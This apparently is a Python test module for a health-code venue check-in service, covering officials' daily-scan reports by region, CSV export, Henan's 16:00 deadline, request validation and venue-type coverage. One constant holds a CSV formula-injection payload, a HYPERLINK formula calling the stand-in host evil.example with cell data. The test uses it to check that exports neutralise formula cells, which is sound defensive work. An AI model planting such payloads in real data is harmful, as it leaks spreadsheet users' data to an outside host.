"""Officials' reports on moto: daily scans per unit after a drain (JSON and CSV, formula cells
neutralised), filtered by region, Henan's 16:00 deadline, and venue-code coverage against the
province's mandatory types."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

from healthcode import clock
from healthcode.rules.policy import RiskLevel
from healthcode.rules.venues import china_day

from tests.handlers import venue_support
from tests.handlers.harness import Answer, InProcessStack
from tests.handlers.venue_support import OFFICIAL, PLACES, citizen, make_person, manager, pump, register

venue_stack = venue_support.venue_stack  # the module's shared moto stack (fixture)
stack = venue_support.stack

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def visit(stack: InProcessStack, code: str, levels: list[RiskLevel], near: dict[str, float]) -> None:
    for level in levels:
        who = citizen()
        person = make_person(who[0], level=level)
        body = {"venue_code": code, "person_id": person.person_id, "location": near}
        assert stack.call("POST", "/v1/checkins", as_=who, json_body=body).status == 201


def near(province: str) -> dict[str, float]:
    _, lat, lng, _ = PLACES[province]
    return {"lat": lat, "lng": lng + 0.001}


def report(stack: InProcessStack, query: str, headers: dict[str, str] | None = None) -> Answer:
    return stack.call("GET", "/v1/reports/daily-scans", as_=OFFICIAL, query=query, headers=headers)


def units_by_id(answer: Answer) -> dict[str, dict[str, Any]]:
    assert answer.status == 200, answer.body
    return {u["venue_id"]: u for u in answer.json()["units"]}


def test_daily_scans_per_unit_by_region_after_a_drain(stack: InProcessStack) -> None:
    # GIVEN a venue in 南明区 with three check-ins (one red) and one in 云岩区 with one
    who = manager()
    nanming = register(stack, who, region_code="520102", name=f"南明商场{uuid.uuid4().hex[:4]}").json()
    yunyan = register(stack, who, region_code="520103").json()
    visit(stack, nanming["code"], [RiskLevel.GREEN, RiskLevel.GREEN, RiskLevel.RED], near("520000"))
    visit(stack, yunyan["code"], [RiskLevel.GREEN], near("520000"))
    pump(stack).drain()
    today = china_day(clock.now())
    # WHEN an official asks for the county THEN only its unit, with counts
    county = units_by_id(report(stack, f"region_code=520102&date={today}"))
    assert nanming["venue_id"] in county and yunyan["venue_id"] not in county
    assert county[nanming["venue_id"]]["scans"] == 3 and county[nanming["venue_id"]]["abnormal"] == 1
    assert county[nanming["venue_id"]]["name"].startswith("南明商场")
    # the prefecture and the province (the default) include both
    for query in ("region_code=520100", ""):
        units = units_by_id(report(stack, query))
        assert {nanming["venue_id"], yunyan["venue_id"]} <= set(units)
    body = report(stack, "").json()
    assert body["date"] == today and body["region_code"] == "520000" and body["due_at"] is None


def test_the_csv_report_neutralises_formula_cells(stack: InProcessStack) -> None:
    # GIVEN a unit whose name is a spreadsheet formula (the Luca export incident)
    who = manager()
    venue = register(stack, who, name=EVIL).json()
    visit(stack, venue["code"], [RiskLevel.GREEN], near("520000"))
    pump(stack).drain()
    # WHEN the report is asked for as CSV (by Accept header or by ?format=csv)
    for answer in (report(stack, "", {"accept": "text/csv"}), report(stack, "format=csv")):
        assert answer.status == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert "attachment" in answer.headers["content-disposition"]
        text = answer.body.decode("utf-8")
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text[1:], newline="")))
        assert rows[0] == ["date", "region_code", "venue_id", "name", "scans", "abnormal"]
        (row,) = [r for r in rows[1:] if r[2] == venue["venue_id"]]
        # THEN the name is text, never a formula, and the numbers are numbers
        assert row[3] == "'" + EVIL and row[4] == "1" and row[5] == "0"
        assert not any(cell[:1] in "=+-@\t\r" for r in rows for cell in r if cell)


def test_henan_reports_are_due_at_16_00(stack: InProcessStack, province) -> None:  # type: ignore[no-untyped-def]
    province("410000")
    venue = register(stack, manager(), region_code=PLACES["410000"][0]).json()
    visit(stack, venue["code"], [RiskLevel.GREEN], near("410000"))
    pump(stack).drain()
    body = report(stack, "").json()
    assert body["region_code"] == "410000" and body["due_at"] == f"{body['date']}T16:00:00+08:00"
    assert venue["venue_id"] in {u["venue_id"] for u in body["units"]}


def test_report_requests_are_checked(stack: InProcessStack) -> None:
    for query, field, code in (
        ("region_code=350102", "region_code", "region_outside_province"),
        ("region_code=5201", "region_code", "invalid_region_code"),
        ("date=2022-02-30", "date", "invalid_date"),
        ("format=xlsx", "format", "invalid_format"),
    ):
        answer = report(stack, query)
        assert (answer.status, answer.error_code, answer.json()["error"]["field"]) == (422, code, field), (
            query
        )
    for who in (manager(), citizen()):
        assert stack.call("GET", "/v1/reports/daily-scans", as_=who).error_code == "forbidden_role"
        assert stack.call("GET", "/v1/reports/coverage", as_=who).error_code == "forbidden_role"


def test_coverage_counts_types_regions_and_fujians_mandatory_list(stack: InProcessStack, province) -> None:  # type: ignore[no-untyped-def]
    province("350000")
    who = manager()
    before = stack.call("GET", "/v1/reports/coverage", as_=OFFICIAL, query="region_code=350102").json()
    for venue_type in ("hospital", "clinic", "clinic", "mall"):
        assert register(stack, who, type=venue_type, region_code="350102").status == 201
    pump(stack).drain()
    answer = stack.call("GET", "/v1/reports/coverage", as_=OFFICIAL, query="region_code=350102")
    assert answer.status == 200
    body = answer.json()
    by_type = {row["type"]: row for row in body["by_type"]}
    old = {row["type"]: row["venues"] for row in before["by_type"]}
    assert (
        by_type["clinic"]["venues"] - old["clinic"] == 2 and by_type["clinic"]["requirement"] == "mandatory"
    )
    assert by_type["mall"]["requirement"] == "encouraged" and by_type["pharmacy"]["requirement"] == "none"
    assert body["venues"] - before["venues"] == 4
    assert body["mandatory"]["types"] == 11
    assert {"hospital", "clinic"}.isdisjoint(body["mandatory"]["missing"])
    assert body["mandatory"]["covered"] == 11 - len(body["mandatory"]["missing"])
    # the province lists its prefectures
    province_wide = stack.call("GET", "/v1/reports/coverage", as_=OFFICIAL).json()
    fuzhou = {row["region_code"]: row for row in province_wide["by_region"]}["350100"]
    assert fuzhou["region_name"] == "福州市" and fuzhou["venues"] >= 4
